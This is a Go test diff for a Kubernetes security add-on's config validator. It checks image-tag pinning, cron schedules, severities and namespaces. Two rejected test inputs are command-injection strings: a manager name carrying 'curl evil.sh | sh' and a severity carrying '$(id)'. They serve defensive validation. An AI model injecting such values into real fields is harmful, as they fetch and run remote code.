@@ -115,8 +115,49 @@ func TestValidateRejectsLatest(t *testing.T) {
 	a.TrivyImage.Tag = "latest"
 	a.WazuhImage.Tag = ""
 	ps := a.Validate("bac:security")
-	if len(ps) != 2 || ps[0].String() != `bac:security.trivyImage.tag: "latest" is not a pinned version` ||
+	if len(ps) != 2 || ps[0].String() != `bac:security.trivyImage.tag: "latest" is a moving tag, not a pinned version; use a release version (1.2.3) or a digest` ||
 		ps[1].String() != "bac:security.wazuhImage.tag: is required: pin a version, never rely on latest" {
 		t.Fatalf("got %v", ps)
+	}
+}
+
+func TestValidateScheduleAndManager(t *testing.T) {
+	tests := []struct {
+		name   string
+		mutate func(a *security.Args)
+		want   string
+	}{
+		{"six fields", func(a *security.Args) { a.Schedule = "0 0 2 * * *" }, `bac:security.schedule: "0 0 2 * * *" is not a cron schedule`},
+		{"hour out of range", func(a *security.Args) { a.Schedule = "0 25 * * *" }, `bac:security.schedule: "0 25 * * *" is not a cron schedule`},
+		{"time zone in the schedule", func(a *security.Args) { a.Schedule = "CRON_TZ=UTC 0 2 * * *" },
+			`bac:security.schedule: "CRON_TZ=UTC 0 2 * * *": Kubernetes refuses TZ or CRON_TZ in a schedule`},
+		{"unknown descriptor", func(a *security.Args) { a.Schedule = "@fortnightly" }, `bac:security.schedule: "@fortnightly" is not a cron schedule`},
+		{"manager with a command", func(a *security.Args) { a.WazuhManager = "wazuh; curl evil.sh | sh" },
+			`bac:security.wazuhManager: "wazuh; curl evil.sh | sh" is not a DNS name`},
+		{"severity with a command", func(a *security.Args) { a.Severity = "HIGH,CRITICAL $(id)" },
+			`bac:security.severity: "HIGH,CRITICAL $(id)" is not a comma-separated list of Trivy severities`},
+		{"reserved namespace", func(a *security.Args) { a.Namespace = "kube-public" }, `bac:security.namespace: "kube-public" is reserved for Kubernetes`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := security.DefaultArgs()
+			tt.mutate(&a)
+			ps := a.Validate("bac:security")
+			if len(ps) != 1 || !strings.HasPrefix(ps[0].String(), tt.want) {
+				t.Fatalf("problems = %v, want one starting %q", ps, tt.want)
+			}
+		})
+	}
+	for _, ok := range []func(a *security.Args){
+		func(a *security.Args) { a.Schedule = "@daily" },
+		func(a *security.Args) { a.Schedule = "*/30 1-5 * * MON-FRI" },
+		func(a *security.Args) { a.WazuhManager = "10.20.0.15" },
+		func(a *security.Args) { a.Severity = "MEDIUM,HIGH,CRITICAL" },
+	} {
+		a := security.DefaultArgs()
+		ok(&a)
+		if ps := a.Validate("bac:security"); len(ps) != 0 {
+			t.Errorf("problems = %v", ps)
+		}
 	}
 }
